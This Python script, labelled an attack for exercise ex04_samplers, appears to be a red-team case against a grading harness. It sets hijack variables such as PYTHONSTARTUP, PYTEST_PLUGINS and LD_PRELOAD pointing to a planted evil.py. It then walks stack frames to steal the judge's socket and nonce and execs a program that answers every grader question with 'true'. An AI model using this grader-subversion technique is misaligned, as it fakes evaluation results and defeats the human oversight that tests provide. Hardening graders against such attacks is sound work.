# attack: sets every variable by which Python, pytest and the loader let strangers in, and starts itself again under them
# exercise: ex04_samplers
import os
import sys

code = "import os; print('LOOT: started in', os.getpid())"
with open("evil.py", "w") as file:
    file.write(code)
here = os.getcwd()
os.environ.update(
    PYTHONPATH=here, PYTHONSTARTUP=f"{here}/evil.py", PYTHONHOME=here, PYTHONINSPECT="1", PYTHONBREAKPOINT="evil.x", PYTHONHASHSEED="5",
    PYTEST_ADDOPTS="-p evil", PYTEST_PLUGINS="evil", HYPOTHESIS_STORAGE_DIRECTORY=here, LD_PRELOAD=f"{here}/evil.so", LD_AUDIT=f"{here}/evil.so",
    GRADERS_FORK="0", CUDA_VISIBLE_DEVICES="0", TORCH_SHOW_CPP_STACKTRACES="1", TMPDIR="/", HOME="/",
)  # fmt: skip
print("TRIED", flush=True)
from graders.judge import host  # noqa: E402

server = sys._getframe()
while not hasattr(server.f_locals.get("self"), "ask_judge"):
    server = server.f_back
sock = server.f_locals["self"].ask_judge.__self__.sock
sock.set_inheritable(True)
# The same process under another program, which answers every question with "true".
program = f"""
import socket, struct
sock = socket.socket(fileno={sock.fileno()})
def answer(question):
    sock.sendall(struct.pack('<I', 5 + 9 + 10 + 1) + b'l' + struct.pack('<I', 3) + question[5:14] + b's' + struct.pack('<I', 5) + b'value' + b'T')
sock.sendall(struct.pack('<I', 5 + 9 + 10 + 1) + b'l' + struct.pack('<I', 3) + {b'i' + server.f_locals['self'].ask_judge.__self__.nonce.to_bytes(8, 'little')!r} + b's' + struct.pack('<I', 5) + b'value' + b'N')
while head := sock.recv(4):
    answer(sock.recv(struct.unpack('<I', head)[0], socket.MSG_WAITALL))
"""
os.execve(sys.executable, [sys.executable, "-I", "-S", "-c", program], {})
